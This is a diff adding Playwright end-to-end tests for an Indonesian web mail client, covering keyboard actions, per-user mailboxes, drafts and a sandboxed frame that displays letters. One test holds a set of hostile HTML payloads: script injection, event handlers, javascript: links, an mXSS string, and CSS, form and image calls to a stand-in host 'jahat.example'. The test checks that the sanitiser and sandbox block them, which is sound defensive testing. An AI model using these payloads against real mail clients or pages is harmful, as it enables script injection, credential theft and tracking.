@@ -1,0 +1,156 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from '#tests/e2e/fixtures.ts';
+import { go } from '#tests/e2e/pages/routes.ts';
+
+const rows = (page: Page) => page.locator('[data-surat]');
+const idsOf = (page: Page) => rows(page).evaluateAll((all) => all.map((one) => (one as HTMLElement).dataset['surat']));
+const toast = (page: Page, text: string) => page.locator('.toast', { hasText: text });
+
+test('mail is read, marked and moved by keyboard, and every step can be undone', async ({ openAs }) => {
+  const page = await openAs('pelapor.tapin', '/email');
+  await expect(rows(page).first()).toBeVisible();
+  const before = await idsOf(page);
+  expect(before.length).toBeGreaterThanOrEqual(10);
+
+  await rows(page).first().getByRole('link').focus();
+  await page.keyboard.press('ArrowDown');
+  await page.keyboard.press('x');
+  await expect(rows(page).nth(1).getByRole('checkbox')).toBeChecked();
+  await page.keyboard.press('s');
+  await expect(rows(page).nth(1).getByRole('button')).toHaveAttribute('aria-pressed', 'true');
+  await page.keyboard.press('Delete');
+  await expect(rows(page)).toHaveCount(before.length - 1);
+  await toast(page, '1 surat dibuang').getByRole('button', { name: 'Urungkan' }).click();
+  await expect(rows(page)).toHaveCount(before.length);
+  expect(await idsOf(page)).toEqual(before);
+
+  const all = page.getByRole('checkbox', { name: /Pilih semua|terpilih/ });
+  await all.check();
+  await expect(page.getByText(`${before.length} surat terpilih`).first()).toBeVisible();
+  await all.uncheck();
+  await expect(page.getByRole('group', { name: 'Tindakan untuk surat terpilih' })).toHaveCount(0);
+
+  await rows(page).first().getByRole('link').press('Enter');
+  await expect(page).toHaveURL(/surat=/);
+  await expect(page.getByText(`1 dari ${before.length}`)).toBeVisible();
+  await page.getByRole('button', { name: 'Surat berikutnya' }).click();
+  await expect(page.getByText(`2 dari ${before.length}`)).toBeVisible();
+  await expect(page).toHaveURL(new RegExp(`surat=${before[1]}`));
+
+  await page.getByRole('searchbox').fill('penyebut');
+  await expect(rows(page)).toHaveCount(1);
+  await expect(page).toHaveURL(/q=penyebut/);
+  await expect(page.getByText('Surat itu tidak ada lagi di daftar ini')).toBeVisible();
+});
+
+test('each person has a mailbox of their own, and what is written outlives the page', async ({ openAs }) => {
+  const [one, other] = await Promise.all([
+    openAs('pelapor.tapin', '/email/starred'),
+    openAs('verifikator.tapin', '/email/label/important'),
+  ]);
+  await expect(rows(one).first()).toBeVisible();
+  await expect(rows(other).first()).toBeVisible();
+  const mine = await idsOf(one);
+  expect((await idsOf(other)).filter((id) => mine.includes(id))).toEqual([]);
+
+  await other.getByRole('button', { name: 'Tulis surat' }).click();
+  await other.getByLabel('Subjek').fill('Bukti triwulan');
+  await other.getByLabel('Isi', { exact: true }).fill('Mohon diunggah ulang.');
+  await expect(other.getByText('Tersimpan di perangkat ini')).toBeVisible();
+  await other.reload();
+  await expect(other.getByLabel('Isi', { exact: true })).toHaveValue('Mohon diunggah ulang.');
+  await expect(other.getByRole('link', { name: 'Bukti triwulan' })).toBeVisible();
+  await expect(other.getByText('Pengiriman belum tersambung')).toBeVisible();
+  await expect(other.locator('.email-tulis').getByRole('button', { name: /kirim/i })).toHaveCount(0);
+});
+
+const EVIL = 'https://jahat.example';
+const HOSTILE: Record<string, string> = {
+  script: `<script>parent.bocor = 'script'</script><script src="${EVIL}/a.js"></script>`,
+  'event handler': `<img src="x" onerror="parent.bocor='onerror'"><p onclick="parent.bocor=1" onmouseover="x()">a</p>`,
+  'javascript address': `<a href="javascript:parent.bocor='a'">a</a><a href=" jAvascript:alert(1)">b</a><a href="/keluar">c</a>`,
+  drawing: `<svg onload="parent.bocor='svg'"><script>parent.bocor='svg'</script><a xlink:href="javascript:1">x</a></svg><math><mtext></form><form><mglyph><style></math><img src onerror="parent.bocor='mxss'">`,
+  'style sheet': `<style>@import url("${EVIL}/a.css"); body { background: url(${EVIL}/b.png) }</style><p style="background-image:url(${EVIL}/c.png);position:fixed;color:red">a</p><link rel="stylesheet" href="${EVIL}/d.css">`,
+  form: `<form action="${EVIL}/curi"><input name="sandi" autofocus><button formaction="${EVIL}/x">Masuk</button></form>`,
+  'way out': `<meta http-equiv="refresh" content="0;url=${EVIL}/pindah"><base href="${EVIL}/"><iframe src="${EVIL}/i"></iframe><object data="${EVIL}/o"></object>`,
+  picture: `<img src="${EVIL}/p.gif" alt="Kop surat"><img srcset="${EVIL}/s.png 2x"><video poster="${EVIL}/v.png" src="${EVIL}/v.mp4"></video><picture><source srcset="${EVIL}/w.png"></picture>`,
+};
+
+test('a hostile letter runs nothing, asks nobody and sends nothing', async ({ openAs, faults }) => {
+  const page = await openAs('pelapor.tapin', '/email');
+  await expect(rows(page).first()).toBeVisible();
+  const ids = await idsOf(page);
+  const asked: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().startsWith(EVIL)) asked.push(request.url());
+  });
+  page.on('dialog', (dialog) => void dialog.dismiss());
+  let body = '';
+  await page.route('**/apps/email/get-email*', async (route) => {
+    const answer = await route.fetch();
+    await route.fulfill({
+      response: answer,
+      json: { ...((await answer.json()) as object), message: body, replies: [] },
+    });
+  });
+  for (const [index, [name, html]] of Object.entries(HOSTILE).entries()) {
+    body = `<p>Selamat pagi ${index}. <a href="https://www.bps.go.id/">BPS</a></p>${html}`;
+    await go(page, `/email/inbox?surat=${ids[index]}`);
+    const letter = page.frameLocator('.ui-safe-frame');
+    await expect(letter.getByText(`Selamat pagi ${index}.`), name).toBeVisible();
+    const found = await letter.locator('html').evaluate((root) => ({
+      tags: [...root.querySelectorAll('body *')]
+        .map(({ localName }) => localName)
+        .filter((tag) => !['p', 'a', 'img', 'br'].includes(tag)),
+      attributes: [...root.querySelectorAll('body *')].flatMap((one) =>
+        one
+          .getAttributeNames()
+          .filter((key) => key.startsWith('on') || /javascript:|url\(/i.test(one.getAttribute(key) ?? '')),
+      ),
+      link: [...root.querySelectorAll('a[href]')].map((one) => [one.getAttribute('target'), one.getAttribute('rel')]),
+      address: location.href,
+    }));
+    expect(found, name).toEqual({
+      tags: [],
+      attributes: [],
+      link: [['_blank', 'noopener noreferrer']],
+      address: 'about:srcdoc',
+    });
+  }
+  expect(asked).toEqual([]);
+  // The policy stops a <base> as soon as it is looked at, in the document of the sanitiser that nobody sees: well done.
+  const others = faults.filter((fault) => !fault.includes('base-uri'));
+  expect(others).toEqual([]);
+  faults.splice(0);
+  expect(await page.evaluate(() => 'bocor' in window)).toBe(false);
+  await expect(page.getByText(/gambar dari luar tidak dimuat/)).toBeVisible();
+
+  // The second wall by itself: whatever got past the first, nothing runs in the frame.
+  const frame = page.locator('.ui-safe-frame');
+  await expect(frame).toHaveAttribute('sandbox', 'allow-same-origin allow-popups allow-popups-to-escape-sandbox');
+  await frame.evaluate(
+    (one: HTMLIFrameElement) =>
+      new Promise<void>((resolve) => {
+        one.addEventListener('load', () => resolve(), { once: true });
+        one.srcdoc = '<p>Lolos</p><script>parent.bocor = 1</scr' + 'ipt><img src=x onerror="parent.bocor = 2">';
+      }),
+  );
+  expect(await page.evaluate(() => 'bocor' in window)).toBe(false);
+});
+
+test('the frame of a letter is as high as the letter, on a phone too', async ({ openAs }) => {
+  const page = await openAs('pelapor.tapin', '/email');
+  await page.setViewportSize({ width: 360, height: 740 });
+  await rows(page).first().getByRole('link').click();
+  const frame = page.locator('.ui-safe-frame');
+  await expect
+    .poll(async () =>
+      frame.evaluate((one: HTMLIFrameElement) => {
+        const inner = one.contentDocument?.body.getBoundingClientRect().height ?? 0;
+        return inner > 100 && Math.abs(one.clientHeight - inner) < 4;
+      }),
+    )
+    .toBe(true);
+  await page.getByRole('button', { name: 'Kembali ke Masuk' }).click();
+  await expect(rows(page).first()).toBeVisible();
+});
